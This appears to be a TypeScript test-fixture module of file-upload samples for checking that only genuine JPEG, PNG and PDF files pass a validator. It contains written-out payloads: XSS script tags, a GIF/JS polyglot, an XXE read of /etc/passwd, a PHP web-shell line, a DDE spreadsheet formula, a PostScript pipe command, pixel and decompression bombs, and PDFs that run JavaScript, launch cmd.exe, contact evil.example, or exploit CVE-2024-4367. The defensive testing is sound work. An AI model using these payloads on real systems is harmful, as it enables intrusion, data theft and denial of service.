import { blackPng } from './black-png.ts';
import { pdfOf, unfoldingPdf } from './pdf-of.ts';

export const script = '<script>alert(document.domain)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;
export const html = `<!doctype html><body>${script}`;

const beginning = (text: string) => Buffer.from(text.padEnd(64, '\0'), 'latin1');

/** No JPEG, PNG or PDF, whatever it is called. */
export const foreignFiles: Readonly<Record<string, Buffer>> = {
  'an empty page': Buffer.from(' '),
  'a GIF': beginning('GIF89a'),
  'a GIF that is a script': Buffer.from('GIF89a/*\0*/=alert(1)//;'),
  'a bitmap': beginning('BM\x46\0\0\0'),
  'a TIFF': beginning('II*\0'),
  'a TIFF of the other kind': beginning('MM\0*'),
  'a WebP': beginning('RIFF\x24\0\0\0WEBPVP8 '),
  'an AVIF': beginning('\0\0\0\x20ftypavif'),
  'a HEIC': beginning('\0\0\0\x18ftypheic'),
  'a HEIC sequence': beginning('\0\0\0\x18ftyphevc'),
  'a JPEG 2000': beginning('\0\0\0\x0cjP  \r\n\x87\n'),
  'a JPEG XL': beginning('\xff\x0a'),
  'an icon': beginning('\0\0\x01\0\x01\0'),
  'a Photoshop picture': beginning('8BPS\0\x01'),
  'a drawing': Buffer.from(svg),
  'a drawing with a byte order mark': Buffer.from(`\ufeff${svg}`),
  'a drawing with a prologue': Buffer.from(`<?xml version="1.0"?>${svg}`),
  'a document that reads a file': Buffer.from(
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ),
  'a page': Buffer.from(html),
  'a page after blanks': Buffer.from(`\n\n   ${html}`),
  'a page that goes on as a PDF': Buffer.from(`${html}\n%PDF-1.7\n`),
  'a page that goes on as a JPEG': Buffer.from(`${html}\xff\xd8\xff\xe0`, 'latin1'),
  'a zip archive': beginning('PK\x03\x04'),
  'a RAR archive': beginning('Rar!\x1a\x07'),
  'a 7-Zip archive': beginning("7z\xbc\xaf'\x1c"),
  'a gzip archive': beginning('\x1f\x8b\x08'),
  'a Windows program': beginning('MZ\x90\0'),
  'a Linux program': beginning('\x7fELF'),
  'a Java class': beginning('\xca\xfe\xba\xbe'),
  'a WebAssembly module': beginning('\0asm\x01'),
  'a shell script': Buffer.from('#!/bin/sh\nid'),
  'a PHP page': Buffer.from('<?php system($_GET[0]);'),
  'a film': beginning('\0\0\0\x18ftypmp42'),
  'a sound': beginning('ID3\x04'),
  'a PostScript program': Buffer.from('%!PS-Adobe-3.0\n(%pipe%id) (w) file'),
  'a spreadsheet': Buffer.from("=cmd|' /C calc'!A0;1;2"),
  'half a JPEG mark': Buffer.from('ffd8', 'hex'),
  'a PNG mark with other line ends': beginning('\x89PNG\n\x1a\n'),
  'a PDF mark without a version': Buffer.from('%PDF-x\nstartxref\n0\n%%EOF'),
};

const jpegMark = Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex');
const pngMark = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

/** Files with the marks of a picture or PDF and broken content, or far too much of it. */
export const brokenFiles: Readonly<Record<string, Buffer>> = {
  'a JPEG mark before a page': Buffer.concat([jpegMark, Buffer.from(html)]),
  'a PNG mark before a drawing': Buffer.concat([pngMark, Buffer.from(svg)]),
  'a PNG mark alone': pngMark,
  'a PNG without pixels': (await blackPng({ width: 9, height: 9 })).subarray(0, 33),
  'a PNG of no size': await blackPng({ width: 0, height: 0 }),
  'a PDF mark before a page': Buffer.from(`%PDF-1.7\n${html}`),
  'a PDF without an end': pdfOf(['<</Type/Catalog>>']).subarray(0, -20),
  'a picture of 400 million pixels': await blackPng({ width: 20_000, height: 20_000, bits: 1 }),
  'a picture as long as a motorway': await blackPng({ width: 1, height: 50_000_000, bits: 1 }),
  'a picture as wide as a motorway': await blackPng({ width: 50_000_000, height: 1, bits: 1 }),
  'a picture of 16 bits': await blackPng({ width: 5100, height: 5100, bits: 16, colour: 6 }),
  'a picture that comes in passes': await blackPng({
    width: 5800,
    height: 5800,
    colour: 2,
    isInterlaced: true,
  }),
};

const page = [
  '<</Type/Catalog/Pages 2 0 R',
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 600]>>',
] as const;
const acting = (catalogue: string, ...more: string[]) =>
  pdfOf([`${page[0]}${catalogue}>>`, page[1], page[2], ...more]);
const sheets = 5000;

/** PDFs that harm the program that opens them. */
export const activePdfs: Readonly<Record<string, Buffer>> = {
  'runs a script when it opens': acting('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'),
  'has a script by name': acting('/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>'),
  'starts a program': acting('/OpenAction<</S/Launch/F(cmd.exe)>>'),
  'calls home': acting('/OpenAction<</S/URI/URI(https://evil.example)>>'),
  'sends a form': acting('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'),
  'brings a file': acting(
    '/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>',
    '<</Type/Filespec/F(a.exe)>>',
  ),
  'is a form of XML': acting(
    '/AcroForm<</XFA 4 0 R>>',
    `<</Length ${html.length}>>\nstream\n${html}\nendstream`,
  ),
  'has a script for a font matrix (CVE-2024-4367)': acting(
    '',
    '<</Type/Font/Subtype/Type1/FontMatrix[1 0 0 1 0 (0\\); alert\\(document.domain\\)//)]>>',
  ),
  'is a page too': pdfOf([`${page[0]}>>`, page[1], page[2], `<!--${html}-->`]),
  'is an archive too': Buffer.concat([
    acting(''),
    Buffer.from('PK\x05\x06'.padEnd(22, '\0')),
    Buffer.from('\nstartxref\n0\n%%EOF'),
  ]),
  'has 5000 sheets': pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[${Array.from({ length: sheets }, (_, sheet) => `${sheet + 3} 0 R`).join(' ')}]/Count ${sheets}>>`,
    ...Array<string>(sheets).fill(page[2]),
  ]),
  'unfolds to gigabytes': await unfoldingPdf(),
};
